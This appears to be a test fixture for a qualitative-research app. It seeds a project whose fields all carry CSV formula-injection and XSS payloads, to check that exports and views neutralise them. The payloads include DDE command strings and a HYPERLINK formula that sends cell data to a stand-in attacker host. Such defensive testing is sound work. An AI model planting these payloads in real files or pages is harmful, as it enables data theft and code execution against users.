// A project whose every piece of user text is hostile twice over: it starts like a
// spreadsheet formula (= + - @ tab CR) and carries HTML that would run script if
// a view or export injected it. Built through the contract, so the same builder
// serves the CSV tests (in-process) and the browser test (over HTTP).
import type { In, Method, Out } from '../../shared/api/contract';

export type Call = <M extends Method>(method: M, input: In<M>) => Promise<Out<M>>;

/** Every payload calls alert: the browser test fails on any dialog. */
const js = (tag: string) => `alert('${tag}')`;

export const H = {
  document: `=HYPERLINK("http://evil.example/?d="&A1,"open")<img src=x onerror="${js('document')}">`,
  transcript: [
    `Interviewer: <script>${js('script')}</script> ¿Cómo aprendiste el oficio?`,
    `Rosa: =cmd|' /C calc'!A0 <img src=x onerror="${js('text')}"> Mirando a mi compañera.`,
    `Interviewer: @SUM(1+1)*cmd|' /C calc'!A0 <a href="javascript:${js('link')}">enlace</a>`,
    `Rosa: -5 puntos <svg onload="${js('svg')}"></svg> y <iframe src="javascript:${js('iframe')}"></iframe> fin.`,
  ].join('\n\n'),
  field: `=area<img src=x onerror="${js('field')}">`,
  value: `+Norte<script>${js('value')}</script>`,
  caseName: `-Rosa<b onmouseover="${js('case')}">R</b>`,
  coderA: `+Ana<img src=x onerror="${js('coder')}">`,
  coderB: '-Bruno',
  parentCode: `=Aprendizaje<script>${js('code')}</script>`,
  childCode: `@Formal<img src=x onerror="${js('child')}">`,
  definition: `\t=1+1<script>${js('definition')}</script>`,
  memo: `=memo<img src=x onerror="${js('memo')}">`,
  theme: `\r=tema<img src=x onerror="${js('theme')}">`,
  themeDescription: `<script>${js('description')}</script>-description`,
  noteTitle: `@nota<img src=x onerror="${js('note')}">`,
} as const;

/** Payload markers that must show as text, never become elements. */
export const VISIBLE_MARKERS = ['<script>', '<img src=x onerror=', '<svg onload=', '<b onmouseover='];

export interface HostileIds {
  documentId: string;
  coderA: string;
  coderB: string;
  parentCode: string;
  childCode: string;
  themeId: string;
}

const base64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

export async function fillHostileProject(call: Call): Promise<HostileIds> {
  const csv = `participant,"${H.field.replace(/"/g, '""')}",tenure\n"${H.caseName.replace(/"/g, '""')}","${H.value.replace(/"/g, '""')}",@12\n`;
  await call('cases.import', { fileName: 'participantes.csv', data: base64(csv) });
  const imported = await call('documents.import', { files: [{ fileName: 'entrevista.txt', data: base64(H.transcript), documentName: H.document }] });
  const documentId = imported.documents[0]!.id;
  const caseId = (await call('cases.list', {})).cases[0]!.id;
  await call('documents.setCase', { id: documentId, caseId });

  const coderA = (await call('coders.add', { name: H.coderA })).id;
  const coderB = (await call('coders.add', { name: H.coderB })).id;
  const parentCode = (await call('codes.create', { name: H.parentCode, definition: H.definition })).id;
  const childCode = (await call('codes.create', { name: H.childCode, parentId: parentCode, weight: { min: -2, max: 2, labels: { '-2': '=bad', '2': '+good' } } })).id;

  const text = (await call('documents.get', { id: documentId })).text;
  const at = (needle: string) => text.indexOf(needle);
  const a = await call('excerpts.create', {
    documentId, coderId: coderA, start: at('Rosa: =cmd'), end: at('Mirando') + 'Mirando'.length,
    codes: [{ codeId: parentCode }, { codeId: childCode, weight: -2 }], memo: H.memo,
  });
  await call('excerpts.create', { documentId, coderId: coderB, start: at('Rosa: =cmd'), end: at(' Mirando'), codes: [{ codeId: parentCode }], memo: H.memo });
  await call('excerpts.create', { documentId, coderId: coderA, start: at('-5 puntos'), end: at(' fin.'), codes: [{ codeId: childCode, weight: 1 }] });

  const themeId = (await call('themes.create', { name: H.theme, description: H.themeDescription, codeIds: [parentCode, childCode] })).id;
  await call('themes.star', { id: themeId, excerptId: a.id, starred: true });
  await call('memos.save', { coderId: coderA, targetType: 'project', targetId: null, title: H.noteTitle, body: H.memo });
  return { documentId, coderA, coderB, parentCode, childCode, themeId };
}
